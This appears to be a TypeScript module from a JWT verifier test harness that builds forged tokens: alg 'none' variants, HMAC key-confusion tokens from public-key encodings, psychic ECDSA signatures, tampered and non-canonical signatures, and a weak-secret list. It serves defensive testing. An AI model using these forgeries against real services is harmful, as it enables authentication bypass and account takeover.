/**
 * Token builders for the forgery catalog (shared/research/forgery.md §1, §5). Everything is built from
 * raw strings so duplicate members, odd spellings and broken encodings survive; nothing here sends a
 * request. Catalog ids are noted on each builder.
 */
import { createHash, createHmac, createPublicKey, type KeyObject } from 'node:crypto'
import type { JWK } from 'jose'

/** base64url of a string taken verbatim, or of an object's JSON. */
export function b64u(value: string | object | Uint8Array): string {
  if (value instanceof Uint8Array) return Buffer.from(value).toString('base64url')
  return Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url')
}

export interface DecodedToken {
  header: Record<string, unknown>
  payload: Record<string, unknown>
  segments: [string, string, string]
}

/** Decodes a compact JWS without verifying it (only the harness's own tokens are decoded). */
export function decode(token: string): DecodedToken | undefined {
  const segments = token.split('.')
  if (segments.length !== 3) return undefined
  try {
    const header = JSON.parse(Buffer.from(segments[0]!, 'base64url').toString('utf8')) as Record<string, unknown>
    const payload = JSON.parse(Buffer.from(segments[1]!, 'base64url').toString('utf8')) as Record<string, unknown>
    return { header, payload, segments: segments as [string, string, string] }
  } catch {
    return undefined
  }
}

/** `H.P.S` from raw parts (SIG-01 tampering keeps S from another token). */
export function raw(header: string | object, payload: string | object, signature = ''): string {
  return `${b64u(header)}.${b64u(payload)}.${signature}`
}

/** HS256/384/512 over `H.P` with any key bytes, the empty key included (SIG-05, SIG-06, SIG-07). */
export function hmacToken(alg: 'HS256' | 'HS384' | 'HS512', key: Uint8Array | string, header: object, payload: string | object): string {
  const input = `${b64u({ ...header, alg })}.${b64u(payload)}`
  return `${input}.${createHmac(`sha${alg.slice(2)}`, key).update(input).digest('base64url')}`
}

/** SIG-03: every spelling of `alg: none` (and a missing, null, array or padded alg), as header objects or raw JSON. */
export function algNoneHeaders(base: Record<string, unknown>): { name: string; header: string }[] {
  const { alg: _alg, ...rest } = base
  const json = (alg: unknown) => JSON.stringify({ ...rest, alg })
  const spellings = ['none', 'None', 'NONE', 'nOnE', 'noNE', '', 'none ']
  return [
    ...spellings.map((a) => ({ name: `alg ${JSON.stringify(a)}`, header: json(a) })),
    { name: 'alg null', header: json(null) },
    { name: 'alg ["none"]', header: json(['none']) },
    { name: 'alg absent', header: JSON.stringify(rest) },
  ]
}

/** SIG-02: broken signatures: the last 4 characters dropped, one bit flipped, all zeros, and a foreign one. */
export function brokenSignatures(signature: string): { name: string; signature: string }[] {
  const bytes = Buffer.from(signature, 'base64url')
  const flipped = Buffer.from(bytes)
  flipped[0] = flipped[0]! ^ 1
  return [
    { name: 'last 4 characters dropped', signature: signature.slice(0, -4) },
    { name: 'one bit flipped', signature: flipped.toString('base64url') },
    { name: 'all zero bytes', signature: Buffer.alloc(bytes.length).toString('base64url') },
  ]
}

/** SIG-10: psychic ECDSA signatures (r = s = 0) in the JOSE raw form and jwt_tool's DER form. */
export function psychicSignatures(alg: 'ES256' | 'ES384' | 'ES512'): string[] {
  const size = { ES256: 64, ES384: 96, ES512: 132 }[alg]
  return [Buffer.alloc(size).toString('base64url'), 'MAYCAQACAQA']
}

const P256_N = BigInt('0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551')

/** ENC-04: the high-S twin (s' = n − s) of a P-256 JOSE signature; undefined for another size. */
export function highS(signature: string): string | undefined {
  const bytes = Buffer.from(signature, 'base64url')
  if (bytes.length !== 64) return undefined
  const s = BigInt(`0x${bytes.subarray(32).toString('hex')}`)
  const twin = Buffer.from((P256_N - s).toString(16).padStart(64, '0'), 'hex')
  return Buffer.concat([bytes.subarray(0, 32), twin]).toString('base64url')
}

const ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'

/** ENC-03: spellings of the same bytes (or near them) that a strict verifier refuses. */
export function nonCanonical(token: string): { name: string; token: string }[] {
  const [h, p, s] = token.split('.') as [string, string, string]
  const last = ALPHABET.indexOf(s.slice(-1))
  const out = [
    { name: '= padding', token: `${token}=` },
    { name: 'standard base64 alphabet', token: `${h}.${p}.${Buffer.from(s, 'base64url').toString('base64').replace(/=+$/, '')}` },
    { name: 'trailing space', token: `${token} ` },
    { name: 'tab inside the payload', token: `${h}.${p.slice(0, 8)}\t${p.slice(8)}.${s}` },
  ]
  // Flipping the lowest unused bit of the last character keeps the decoded bytes (when the length leaves bits unused).
  if (s.length % 4 !== 0 && last >= 0) out.unshift({ name: 'unused low bits of the last character flipped', token: `${h}.${p}.${s.slice(0, -1)}${ALPHABET[last ^ 1]}` })
  // A signature without - or _ reads the same in both alphabets: that spelling is no variant.
  return out.filter((v) => v.token !== token)
}

/**
 * SIG-07 / SIG-08: the encodings of a public key that a confused verifier might use as an HMAC secret.
 * EC and OKP keys have no PKCS#1 form; RSA keys get both.
 */
export function publicKeyEncodings(jwk: JWK, jwks: { keys: JWK[] }): { name: string; bytes: Buffer }[] {
  const key: KeyObject = createPublicKey({ key: jwk as never, format: 'jwk' })
  const pem = key.export({ type: 'spki', format: 'pem' }).toString()
  const bare = pem.replace(/\n$/, '')
  const out = [
    { name: 'SPKI PEM', bytes: Buffer.from(pem) },
    { name: 'SPKI PEM without the final newline', bytes: Buffer.from(bare) },
    { name: 'SPKI PEM with CRLF', bytes: Buffer.from(pem.replace(/\n/g, '\r\n')) },
    { name: 'SPKI PEM with leading whitespace', bytes: Buffer.from(` \t${pem}`) },
    { name: 'SPKI DER', bytes: key.export({ type: 'spki', format: 'der' }) },
    { name: 'JWK JSON', bytes: Buffer.from(JSON.stringify(jwk)) },
    { name: 'JWKS JSON', bytes: Buffer.from(JSON.stringify(jwks)) },
  ]
  if (jwk.kty === 'RSA') {
    out.push({ name: 'PKCS#1 PEM', bytes: Buffer.from(key.export({ type: 'pkcs1', format: 'pem' }).toString()) })
    out.push({ name: 'PKCS#1 DER', bytes: key.export({ type: 'pkcs1', format: 'der' }) })
  }
  return out
}

/** SIG-06: the weak secrets of jwt_tool's and hashcat's lists that matter most (plus the empty key, SIG-05). */
export const WEAK_SECRETS = ['', 'secret', 'password', 'changeme', 'jwt', 'key', 'your-256-bit-secret', 'secretkey', 'test', '123456', 'tenant-audit']

/** A short stable digest of a token, for dedup keys (never the token itself). */
export function tokenDigest(token: string): string {
  return createHash('sha256').update(token).digest('hex').slice(0, 12)
}
